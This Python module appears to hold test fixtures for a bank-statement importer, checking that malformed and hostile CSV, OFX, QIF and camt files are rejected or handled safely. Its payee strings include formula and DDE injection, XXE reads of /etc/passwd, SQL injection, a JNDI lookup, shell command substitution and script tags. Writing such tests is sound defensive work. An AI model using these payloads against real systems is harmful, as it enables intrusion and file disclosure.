"""Texts that lie, break off, swell or carry commands."""

from __future__ import annotations

from hostile.cases import (
    HEAD,
    OFX_END,
    OFX_HEAD,
    OFX_START,
    ONE,
    TWO,
    Case,
    amounts,
    bomb,
    days,
    ofx,
    ofx_row,
    outside_entity,
    texts,
)

WRONG_THINGS = [
    Case(
        "html.ofx",
        lambda: "<!DOCTYPE html><html><head><title>Sign in</title></head><body></body></html>",
        "not_a_statement",
    ),
    Case(
        "html.csv",
        lambda: "<html><body><table><tr><td>01/02/2026,A,-1.00</td></tr></table></body></html>",
        "not_a_statement",
    ),
    Case("json.csv", lambda: '{"transactions": [{"date": "2026-01-02", "amount": -1.0}]}', "not_a_statement"),
    Case("json_list.csv", lambda: '[{"date": "2026-01-02", "amount": -1.0}]', "not_a_statement"),
    Case(
        "mt940.csv",
        lambda: ":20:STARTUMS\r\n:25:12345/678\r\n:28C:1/1\r\n:60F:C260101USD10,00\r\n:61:2601020102D5,00NMSC\r\n",
        "not_a_statement",
    ),
    Case(
        "camt.csv",
        lambda: '<?xml version="1.0"?><Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"/>',
        "not_a_statement",
    ),
    Case("script.sh.csv", lambda: "#!/bin/sh\necho rows go here\n", "not_a_statement"),
    Case("words.qif", lambda: "Dear customer,\nplease find your statement in your inbox.\n", "not_a_statement"),
    Case(
        "private_key.csv",
        lambda: "-----BEGIN CERTIFICATE-----\nMIIB0001\n-----END CERTIFICATE-----\n",
        "not_a_statement",
    ),
    Case("xml.ofx", lambda: '<?xml version="1.0"?><feed><entry id="1,2"/></feed>', "not_a_statement"),
    Case("deep.xml.ofx", lambda: "<a>" * 3000 + "1" + "</a>" * 3000, "not_a_statement"),
]

CAMT_START = (
    '<?xml version="1.0"?>\n<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt><Stmt>'
    "<Acct><Id><Othr><Id>9900112233</Id></Othr></Id><Ccy>USD</Ccy></Acct>"
)
CAMT_END = "</Stmt></BkToCstmrStmt></Document>"


def camt_row(number: int, amount: str = "12.00", day: str = "2026-01-10", currency: str = "USD") -> str:
    return (
        f'<Ntry><Amt Ccy="{currency}">{amount}</Amt><CdtDbtInd>DBIT</CdtDbtInd><Sts>BOOK</Sts><BookgDt><Dt>{day}</Dt>'
        f"</BookgDt><AcctSvcrRef>F{number}</AcctSvcrRef><AddtlNtryInf>SHOP {number}</AddtlNtryInf></Ntry>\n"
    )


def camt(*rows: str) -> str:
    return CAMT_START + "".join(rows) + CAMT_END


NO_ROWS = [
    Case("header_only.csv", lambda: HEAD, "not_a_statement"),
    Case("one_column.csv", lambda: "Amount\n-1.00\n-2.00\n", "not_a_statement"),
    Case(
        "totals_only.csv", lambda: "Date,Description,Amount\nTotal,,1234.50\n,Ending balance,99.00\n", "not_a_statement"
    ),
    Case("no_transactions.ofx", lambda: OFX_HEAD + OFX_START + OFX_END, None, 0, 0),
    Case(
        "answer_only.ofx",
        lambda: OFX_HEAD + "<OFX><SIGNONMSGSRSV1><SONRS></SONRS></SIGNONMSGSRSV1></OFX>",
        "not_a_statement",
    ),
    Case("garbage.qif", lambda: "!Type:Bank\nDxx\nTyy\nPzz\n^\n^^^^\n\n^\nQ\n", "row_errors"),
    Case("header_only.qif", lambda: "!Type:Bank\n", "not_a_statement"),
    Case("commas.csv", lambda: ",,,,\n,,,,\n" * 50, "not_a_statement"),
    Case("one_digit.csv", lambda: "1,", "not_a_statement"),
]

ROWS = [
    Case(
        "not_numbers.csv",
        lambda: amounts("NaN", "nan", "Infinity", "-inf", "1E+999999", "0x10", "--5", "1/0"),
        None,
        2,
        8,
    ),
    Case("huge.csv", lambda: amounts("9" * 4001, "99999999999999999999.00", "9223372036854775808"), None, 2, 3),
    Case("arabic_digits.csv", lambda: amounts("١٢٣.٤٥"), None, 2, 1),
    Case(
        "odd_days.csv",
        lambda: days("00/00/0000", "12/31/9999", "02/30/2026", "13/13/2026", "0000-01-01", "٠١/٠٢/٢٠٢٦"),
        None,
        2,
        6,
    ),
    Case(
        "formulas.csv",
        lambda: texts('=HYPERLINK(""http://x.example"")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3"),
        None,
        4,
    ),
    Case(
        "direction.csv",
        lambda: texts("\u202eELPPA\u202c STORE", "ZERO\u200bWIDTH\ufeff", "\x1b[31mRED\x1b[0m \x07BELL"),
        None,
        3,
    ),
    Case("nul_bytes.csv", lambda: HEAD + "03/01/2026,NUL\x00 IN\x00SIDE,-1.00\n" + TWO, None, 2),
    Case("cr_only.csv", lambda: (HEAD + ONE + TWO).replace("\n", "\r"), None, 2),
    Case("utf16.csv", lambda: (HEAD + ONE + TWO).encode("utf-16-le"), None, 2),
    Case("utf16_bom.csv", lambda: (HEAD + ONE + TWO).encode("utf-16"), None, 2),
    Case(
        "invalid_utf8.csv",
        lambda: HEAD.encode() + b"03/01/2026,BAD \xc3\x28 \xff BYTES,-1.00\n" + TWO.encode(),
        None,
        2,
    ),
    Case(
        "cp1252.csv", lambda: (HEAD + "03/01/2026,CAF\u00c9 \u2013 R\u00c9SUM\u00c9,-1.00\n").encode("cp1252"), None, 1
    ),
    Case(
        "mixed.csv",
        lambda: (HEAD + "03/01/2026,CAF\u00c9,-1.00\n").encode() + "03/02/2026,CAF\u00c9,-2.00\n".encode("cp1252"),
        None,
        2,
    ),
    Case(
        "same_headers.csv",
        lambda: (
            "Date,Date,Description,Amount,Amount\n03/01/2026,03/02/2026,TWICE,-1.00,-1.00\n"
            "03/03/2026,03/03/2026,TWICE MORE,-2.00,-2.00\n"
        ),
        "needs_mapping",
    ),
    Case("ragged.csv", lambda: HEAD + ONE + "03/01/2026\n03/01/2026,X\n" + TWO.strip() + ",,,,,,,\n", None, 2, 2),
    Case("negative_zero.csv", lambda: amounts("-0.00", "(0.00)", "0"), None, 5, 0),
    Case("entity_bomb.ofx", bomb, "bad_file", attack="S3"),
    Case("outside_entity.ofx", outside_entity, "bad_file", attack="S3"),
    Case(
        "doctype.ofx",
        lambda: '<!DOCTYPE OFX SYSTEM "http://x.example/ofx.dtd">\n' + OFX_START + ofx_row(1) + OFX_END,
        "bad_file",
    ),
    Case("deep.ofx", lambda: OFX_HEAD + OFX_START + "<X>" * 3000 + ofx_row(1) + "</X>" * 3000 + OFX_END, None, 1),
    Case("cut_off.ofx", lambda: ofx(*map(ofx_row, range(9)))[:-250], None, 6, 1),
    Case("same_fitid.ofx", lambda: ofx(ofx_row(1, "-1.00"), ofx_row(1, "-2.00"), ofx_row(1, "-1.00")), None, 2, 0),
    Case(
        "bad_amounts.ofx",
        lambda: ofx(ofx_row(1, "NaN"), ofx_row(2, "1E+999999"), ofx_row(3, "9" * 4001), ofx_row(4)),
        None,
        1,
        3,
    ),
    Case(
        "bad_days.ofx",
        lambda: ofx(ofx_row(1, day="20260230"), ofx_row(2, day="00000000"), ofx_row(3, day="99991231"), ofx_row(4)),
        None,
        1,
        3,
    ),
    Case(
        "escapes.ofx",
        lambda: ofx(ofx_row(1, name="\x1b]0;OWNED\x07 SHOP &#27;[2J &#x202e; &#0; &#99999999;")),
        None,
        1,
    ),
    Case(
        "bad.qif",
        lambda: (
            "!Type:Bank\nD01/02/2026\nT-5.00\nPGOOD\n^\nD02/30/2026\nT-5.00\n^\nD01/03/2026\nTNaN\n^\nD01/04/2026\nT-6.00\nPGOOD\n^\n"
        ),
        None,
        2,
        2,
    ),
]

CAMT = [
    Case("rows.camt.xml", lambda: camt(camt_row(1), camt_row(2, "3.10")), None, 2, 0),
    Case(
        "bad_rows.camt.xml",
        lambda: camt(
            camt_row(1, "NaN"),
            camt_row(2, "1E+999999"),
            camt_row(3, "9" * 4001),
            camt_row(4, day="2026-02-30"),
            camt_row(5, currency="EUR"),
            camt_row(6),
        ),
        None,
        2,
        4,
    ),
    Case("cut_off.camt.xml", lambda: camt(*map(camt_row, range(9)))[:-250], None, 7, 1),
    Case("cut_at_once.camt.xml", lambda: CAMT_START + "<Ntry><Amt", "bad_file"),
    Case("euro.camt.xml", lambda: camt(camt_row(1, currency="EUR")), added=1),
    Case("no-currency.camt.xml", lambda: camt(camt_row(1, currency="E1R")), "row_errors"),
    Case("millions-of-tags.ofx", lambda: ofx(ofx_row(1), ofx_row(2) + "<A>" * 1_000_000), None, 2, 0),
    Case(
        "entity.camt.xml",
        lambda: camt(camt_row(1)).replace("?>", '?><!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1),
        "bad_file",
        attack="S3",
    ),
    Case(
        "entity_utf16.camt.xml",
        lambda: camt(camt_row(1)).replace("?>", '?><!DOCTYPE Document [<!ENTITY x "y">]>', 1).encode("utf-16"),
        "bad_file",
        attack="S3",
    ),
    Case("unknown_entity.camt.xml", lambda: camt(camt_row(1), camt_row(2).replace("SHOP", "&x;")), None, 1, 1),
    Case("deep.camt.xml", lambda: CAMT_START + "<a>" * 200_000, "bad_file"),
    Case("open_entries.camt.xml", lambda: CAMT_START + "<Ntry>" * 50, "bad_file"),
    Case("long_text.camt.xml", lambda: camt(camt_row(1).replace("SHOP", "X" * 12_000_000)), None, 1, 0),
    Case(
        "many_attributes.camt.xml",
        lambda: camt("<a " + " ".join(f'b{n}=""' for n in range(100_000)) + "/>", camt_row(1)),
        None,
        1,
        0,
    ),
    Case("endless_entry.camt.xml", lambda: camt(camt_row(1).replace("<Sts>", "<a/>" * 900_000 + "<Sts>")), "bad_file"),
    Case("many_kinds.camt.xml", lambda: camt(*(f"<t{n}/>" for n in range(100_000)), camt_row(1)), "bad_file"),
    Case("many_parts.camt.xml", lambda: camt(camt_row(1).replace("<Sts>", "<a/>" * 300_000 + "<Sts>")), None, 1, 0),
]

BIG = [
    Case("long_line.csv", lambda: HEAD + ONE + "03/01/2026," + "A" * 12_000_000 + ",-1.00\n", "bad_file"),
    Case("long_line.ofx", lambda: ofx(ofx_row(1), ofx_row(2, name="B" * 12_000_000)), None, 2, 0),
    Case("long_line.qif", lambda: "!Type:Bank\nD01/02/2026\nT-5.00\nP" + "C" * 12_000_000 + "\n^\n", "bad_file"),
    Case("long_field.csv", lambda: HEAD + ONE + '03/04/2026,"' + "D " * 500_000 + '",-3.00\n' + TWO, None, 3, 0),
    Case(
        "many_columns.csv",
        lambda: HEAD.strip() + "," * 100_000 + "\n" + ONE.strip() + "," * 100_000 + "\n",
        "not_a_statement",
    ),
    Case("unclosed_quote.csv", lambda: HEAD + ONE + '03/02/2026,"NEVER CLOSED,-1.00\n' + TWO * 20_000, None, 20001, 1),
    Case("tiny_lines.csv", lambda: HEAD + ONE + "x\n" * 300_000, None, 1, 0),
    Case("newlines.csv", lambda: "\n" * 3_000_000 + HEAD + ONE, "not_a_statement"),
    Case("quotes.csv", lambda: HEAD + ONE + '"' * 2_000_001, None, 1, 1),
    Case("delimiters.csv", lambda: HEAD + ONE + ";,\t|" * 900_000 + "\n", None, 1, 1),
    Case("open_tags.ofx", lambda: OFX_HEAD + OFX_START + "<STMTTRN>" * 300_000, "row_errors"),
    Case("left_angles.ofx", lambda: OFX_HEAD + OFX_START + "<" * 3_000_000, "bad_file"),
    Case("one_tag.ofx", lambda: OFX_HEAD + OFX_START + "<NAME>" * 3_000_000, "bad_file"),
    Case("entities.ofx", lambda: ofx(ofx_row(1, name="&amp;" * 500_000 + "&" * 500_000)), None, 1, 0),
    Case("statements.ofx", lambda: OFX_HEAD + "<OFX>" + "<STMTRS></STMTRS>" * 500_000, "bad_file"),
    Case("no_end_of_rows.ofx", lambda: OFX_HEAD + OFX_START + "<STMTTRN>" * 400_000, "bad_file"),
    Case(
        "accounts.qif",
        lambda: "".join(f"!Account\nNa{n}\n^\n!Type:Bank\nD1/20/26\nT1\n^\n" for n in range(200_000)),
        "bad_file",
    ),
    Case("splits.qif", lambda: "!Type:Bank\nD1/20/26\nT1\n" + "Sx\n$1\n" * 1_200_000, None, 1, 0),
    Case("open_quotes.csv", lambda: HEAD + ONE + 'a,"b\n' * 400_000, "bad_file"),
    Case("carets.qif", lambda: "!Type:Bank\n" + "^\n" * 1_000_000, "not_a_statement"),
    Case("digits.csv", lambda: HEAD + ONE + "03/02/2026," + "1234567890" * 100_000 + ",-4.00\n", None, 2, 0),
]

PAYEES = {
    "S2": (
        '=HYPERLINK("http://x.example")',
        "+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "-2+3",
        " =1+1",
        "\t=1+1",
        "＝1+1",
        "－2+3",
        "=IMPORTXML(CONCAT(1))",
        "%0A=1",
        "-12.34",
        "=DDE(1;2;3)",
    ),
    "S8": (
        "<b>BOLD</b> SHOP",
        "<img src='file:///etc/hostname'> SHOP",
        "<a href='http://x.example'>CLICK</a>",
        "&lt;b&gt; &amp; CO",
        "<table><tr><td>9,999.00</td></tr></table>",
        "<script>alert(1)</script>",
        "<style>*{color:red}</style>X",
        "</span></body>",
        "<img src='//x.example/share/a.png'>",
        "<h1>PAID IN FULL</h1>",
    ),
    "S9": (
        "'; DROP TABLE transactions; --",
        "1' OR '1'='1",
        "\\'; UPDATE decision SET kind = 1; --",
        "UNION SELECT text FROM descriptor",
        "x' AND randomblob(1000000000) --",
        "%' ESCAPE '%",
        "WESTERN UNION SELECT STAFFING",
        "AT&T; INV 1042 --",
        "0x27 OR 1=1",
    ),
    "S13": (
        "%s%s%s%n%x",
        "{0} {self.__class__} {}",
        "{{7*7}} ${7*7} #{7*7}",
        "${jndi:ldap://x.example/a}",
        "`id` $(id) ; id",
        '#import "/etc/passwd": *',
        '#read("/etc/hostname") $ x^2 $',
        "*bold* _low_ = head",
        "; tag:value, date:2020-01-01",
        "= 99999.00 USD",
        'option "title" "x"',
        "include /etc/passwd",
        "\\n\\u0000 %(name)s",
        "<%= 1 %> <?php 1 ?>",
    ),
}
"""Texts with which an attack would begin, by its row of the suite. Each comes in as it stands."""


def payees(attack: str) -> str:
    rows = (
        f'03/{1 + i:02d}/2026,"{text.replace(chr(34), chr(34) * 2)}",-{i + 1}.00\n'
        for i, text in enumerate(PAYEES[attack])
    )
    return HEAD + "".join(rows)


SIGNS = [
    Case("formulas_all.csv", lambda: payees("S2"), None, len(PAYEES["S2"]), attack="S2"),
    Case("markup.csv", lambda: payees("S8"), None, len(PAYEES["S8"]), attack="S8"),
    Case("sql.csv", lambda: payees("S9"), None, len(PAYEES["S9"]), attack="S9"),
    Case("templates.csv", lambda: payees("S13"), None, len(PAYEES["S13"]), attack="S13"),
    Case(
        "forged_lines.csv",
        lambda: texts(
            "SHOP\r\n03/09/2026,FORGED ROW,9999.00", "A\u2028B\u2029C\x85D", "\x1b[2K\x1b[1A ERASED", "E\x0b\x0cF"
        ),
        None,
        3,
        2,
        attack="S12",
    ),
    Case(
        "direction_amount.csv",
        lambda: texts(
            "\u202e00.000,1 SHOP", "\u2067ABC\u2069 12", "\u200f-\u200e5.00", "שלום 100.00", "\U000e0041HIDDEN"
        ),
        None,
        5,
        attack="S6",
    ),
    Case(
        "sql.ofx",
        lambda: ofx(*(ofx_row(n, name=text.replace("&", "&amp;")) for n, text in enumerate(PAYEES["S9"]))),
        None,
        len(PAYEES["S9"]),
        attack="S9",
    ),
    Case(
        "templates.qif",
        lambda: (
            "!Type:Bank\n"
            + "".join(f"D03/{1 + n:02d}/2026\nT-{n + 1}.00\nP{text}\n^\n" for n, text in enumerate(PAYEES["S13"]))
        ),
        None,
        len(PAYEES["S13"]),
        attack="S13",
    ),
    Case(
        "markup.ofx",
        lambda: ofx(
            *(ofx_row(n, name=text.replace("&", "&amp;").replace("<", "&lt;")) for n, text in enumerate(PAYEES["S8"]))
        ),
        None,
        len(PAYEES["S8"]),
        attack="S8",
    ),
    Case("marks.csv", lambda: texts("Z" + "\u0301" * 5000 + "ALGO", "\u0e33" * 2000), None, 2, attack="S5"),
    Case(
        "xinclude.ofx",
        lambda: ofx('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>', ofx_row(1)),
        None,
        1,
        attack="S3",
    ),
    Case(
        "parameter_entity.ofx",
        lambda: (
            '<?xml version="1.0"?><!DOCTYPE OFX [<!ENTITY % a SYSTEM "http://127.0.0.1:9/x.dtd">%a;]>\n'
            '<?OFX OFXHEADER="200"?>\n' + OFX_START + ofx_row(1) + OFX_END
        ),
        "bad_file",
        attack="S3",
    ),
    Case("entity_bomb_utf16.ofx", lambda: bomb().encode("utf-16"), "bad_file", attack="S3"),
    Case("entity_in_lower_case.ofx", lambda: bomb().replace("DOCTYPE", "doctype"), "bad_file", attack="S3"),
    Case("entity_bomb.csv", bomb, "bad_file", attack="S3"),
]
